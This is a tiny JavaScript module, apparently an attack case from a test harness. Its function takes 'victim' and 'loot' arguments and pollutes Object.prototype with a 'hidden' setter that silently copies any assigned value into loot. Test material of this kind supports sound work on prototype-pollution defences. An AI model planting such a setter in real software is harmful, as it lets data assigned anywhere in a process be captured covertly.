'use strict';
module.exports = (victim, loot) => {
  Object.defineProperty(({}).__proto__, 'hidden', { set(value) { loot.value = value; }, configurable: true });
};
